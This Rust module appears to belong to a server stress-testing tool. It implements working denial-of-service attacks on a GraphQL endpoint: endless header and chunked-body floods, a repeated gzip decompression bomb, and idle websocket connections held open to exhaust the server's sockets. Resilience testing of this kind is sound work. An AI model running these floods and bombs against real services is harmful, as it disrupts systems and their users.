//! Attackers who send as much as they can.

use super::Target;
use ::bytes::Bytes;
use std::{io::Write, sync::OnceLock, time::Duration};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

/// Sends `start` and then `more` again and again, until it is cut off; then the same once more.
async fn pour(target: Target, start: &[u8], more: &[u8]) {
    loop {
        if let Ok(mut stream) = TcpStream::connect(target.addr).await {
            target.hit();
            let pouring = async {
                stream.write_all(start).await?;
                loop {
                    stream.write_all(more).await?;
                }
            };
            let _: std::io::Result<()> = pouring.await;
        }
        tokio::task::yield_now().await;
    }
}

pub async fn headers(target: Target) {
    let headers: String = (0..1000).map(|n| format!("x-{n}: {}\r\n", "x".repeat(100))).collect();
    pour(target, b"GET / HTTP/1.1\r\nhost: x\r\n", headers.as_bytes()).await;
}

pub async fn bodies(target: Target) {
    let head = "POST /graphql HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n";
    let chunk = format!("10000\r\n{}\r\n", " ".repeat(0x1_0000));
    pour(target, head.as_bytes(), chunk.as_bytes()).await;
}

/// 128 MiB of nothing, in a thousandth of it.
fn bomb() -> &'static Bytes {
    static BOMB: OnceLock<Bytes> = OnceLock::new();
    BOMB.get_or_init(|| {
        let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        let nothing = vec![b' '; 1 << 20];
        // Into memory: it cannot fail.
        let written = (0..128).try_for_each(|_| packed.write_all(&nothing));
        written.and_then(|()| packed.finish()).unwrap_or_default().into()
    })
}

pub async fn bombs(target: Target) {
    let bomb = bomb();
    let head = format!(
        "POST /graphql HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-encoding: gzip\r\ncontent-length: {}\r\n\r\n",
        bomb.len()
    );
    let all = [head.as_bytes(), bomb].concat();
    again(target, &all).await;
}

/// Opens sockets and says nothing in them, until the server has had enough.
pub async fn sockets(target: Target) {
    let handshake = "GET /graphql/ws HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
                     sec-websocket-version: 13\r\nsec-websocket-protocol: graphql-transport-ws\r\n\
                     sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    loop {
        if let Ok(mut stream) = TcpStream::connect(target.addr).await {
            target.hit();
            if stream.write_all(handshake.as_bytes()).await.is_ok() {
                let mut nowhere = tokio::io::sink();
                let open = tokio::io::copy(&mut stream, &mut nowhere);
                let _ = tokio::time::timeout(Duration::from_secs(5), open).await;
            }
        }
        tokio::task::yield_now().await;
    }
}

/// Sends one thing, waits for a while whether anything is said, and is back.
async fn again(target: Target, all: &[u8]) {
    loop {
        if let Ok(mut stream) = TcpStream::connect(target.addr).await {
            target.hit();
            if stream.write_all(all).await.is_ok() {
                let _ = tokio::time::timeout(Duration::from_secs(1), stream.read(&mut [0; 1024])).await;
            }
        }
        tokio::task::yield_now().await;
    }
}
